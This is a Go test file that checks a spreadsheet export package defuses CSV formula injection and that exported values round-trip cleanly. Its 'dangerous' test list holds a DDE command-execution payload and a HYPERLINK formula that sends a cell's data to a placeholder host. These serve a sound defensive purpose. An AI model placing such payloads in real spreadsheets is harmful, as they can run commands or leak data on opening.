package workbook

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"xuncha/model"
)

// dangerous are cells a hostile or careless source may put in a name or a
// post: formulas that Excel would run on opening a CSV, and values around
// the rule's edges (apostrophes of a clerk's own).
var dangerous = []string{
	`=HYPERLINK("http://example.invalid/x?d="&A1,"点击查看")`,
	`=cmd|' /C calc'!A0`,
	"+1-2",
	"-5",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"'=保留的撇号",
	"''=两个撇号",
	"'普通撇号",
	"'",
	"=",
	"张'三",
	"普通姓名",
	"",
}

func TestDefuseRoundTrip(t *testing.T) {
	for _, v := range dangerous {
		d := Defuse(v)
		if d != "" && strings.ContainsRune(formulaStart, rune(d[0])) {
			t.Errorf("Defuse(%q) = %q still starts a formula", v, d)
		}
		if got := Undefuse(d); got != v {
			t.Errorf("Undefuse(Defuse(%q)) = %q", v, got)
		}
	}
}

func FuzzDefuse(f *testing.F) {
	for _, v := range dangerous {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) {
		d := Defuse(v)
		if d != "" && strings.ContainsRune(formulaStart, rune(d[0])) {
			t.Fatalf("Defuse(%q) = %q", v, d)
		}
		if Undefuse(d) != v {
			t.Fatalf("round trip of %q: %q", v, Undefuse(d))
		}
	})
}

// TestCSVExportDefusesFormulas exports people and units whose names and
// posts are formulas: no cell of the CSV starts a formula (but for the tab
// before a long number, which is text), and importing the CSV into an
// empty database gives back every value as it was.
func TestCSVExportDefusesFormulas(t *testing.T) {
	db := openDB(t)
	if res := mustImport(t, db, Options{}, baseBook().write(t, "book.xlsx")); len(res.Problems) > 0 {
		t.Fatalf("setup: %v", res.Problems)
	}
	// Values as the program keeps them: an import trims surrounding
	// whitespace, so none starts with a tab or CR.
	var kept []string
	for _, v := range dangerous {
		if v != "" && strings.TrimSpace(v) == v {
			kept = append(kept, v)
		}
	}
	cols := []string{"name", "post", "rank", "native_place"}
	units := []string{"U01", "U02", "U03", "U04"}
	for i, v := range kept {
		var err error
		switch {
		case i < 8: // two people, four free-text columns each
			err = db.Model(&model.Person{}).Where("code = ?", []string{"P001", "P002"}[i%2]).Update(cols[i/2], v).Error
		case i < 12:
			err = db.Model(&model.Unit{}).Where("code = ?", units[i-8]).Update("name", v+"单位").Error
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if len(kept) != 12 {
		t.Fatalf("%d values", len(kept))
	}
	dir := t.TempDir()
	people, unitsCSV := filepath.Join(dir, "人员.csv"), filepath.Join(dir, "单位.csv")
	if err := ExportPeopleCSV(db, nil, people); err != nil {
		t.Fatal(err)
	}
	if err := ExportUnitsCSV(db, nil, unitsCSV); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{people, unitsCSV} {
		data, _ := os.ReadFile(p)
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, bomUTF8)))
		r.FieldsPerRecord = -1
		r.LazyQuotes = true
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell == "" || !strings.ContainsRune(formulaStart, rune(cell[0])) {
					continue
				}
				if cell[0] == '\t' && strings.Trim(cell[1:], "0123456789") == "" {
					continue // a long number kept as text
				}
				t.Errorf("%s: cell %q starts a formula", filepath.Base(p), cell)
			}
		}
	}
	fresh := openDB(t)
	counties := writeFile(t, "县区.csv", []byte(csvOf(baseBook()[SheetCounties])))
	if res := mustImport(t, fresh, Options{}, counties, unitsCSV, people); len(res.Problems) > 0 {
		t.Fatalf("reimport: %v", res.Problems)
	}
	for _, m := range []any{&[]model.Person{}, &[]model.Unit{}} {
		a, b := reflect.New(reflect.TypeOf(m).Elem()).Interface(), reflect.New(reflect.TypeOf(m).Elem()).Interface()
		db.Order("code").Find(a)
		fresh.Order("code").Find(b)
		for _, rows := range []any{a, b} { // when each was imported is not the file's
			v := reflect.ValueOf(rows).Elem()
			for i := 0; i < v.Len(); i++ {
				v.Index(i).FieldByName("Stamp").SetZero()
			}
		}
		if !reflect.DeepEqual(a, b) {
			t.Errorf("after the round trip\nwant %+v\ngot  %+v", a, b)
		}
	}
}

// TestXLSXExportWritesText exports the same values as a workbook: every
// cell is a value, none a formula, and each reads back as written.
func TestXLSXExportWritesText(t *testing.T) {
	db := openDB(t)
	if res := mustImport(t, db, Options{}, baseBook().write(t, "book.xlsx")); len(res.Problems) > 0 {
		t.Fatalf("setup: %v", res.Problems)
	}
	names := []string{dangerous[0], dangerous[1]}
	posts := []string{"+1-2", "@SUM(A1:A9)"}
	for i, code := range []string{"P001", "P002"} {
		db.Model(&model.Person{}).Where("code = ?", code).Updates(map[string]any{"name": names[i], "post": posts[i]})
	}
	path := filepath.Join(t.TempDir(), "人员.xlsx")
	if err := ExportPeople(db, nil, path); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", f.Name)
		}
	}
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, _ := x.GetRows(SheetPeople)
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[1], r[8])
	}
	want := []string{names[0], posts[0], names[1], posts[1]}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("cells\n got %q\nwant %q", got, want)
	}
}

// TestNoFormulasWritten reads the sources of app for excelize's ways of
// writing a formula: every export writes values only.
func TestNoFormulasWritten(t *testing.T) {
	root, _ := filepath.Abs("..")
	filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return err
		}
		fset := token.NewFileSet()
		f, err := parser.ParseFile(fset, path, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.SelectorExpr:
				if x.Sel.Name == "SetCellFormula" {
					t.Errorf("%s:%d writes a formula", path, fset.Position(x.Pos()).Line)
				}
			case *ast.KeyValueExpr:
				if k, ok := x.Key.(*ast.Ident); ok && k.Name == "Formula" {
					t.Errorf("%s:%d writes a formula", path, fset.Position(x.Pos()).Line)
				}
			}
			return true
		})
		return nil
	})
}
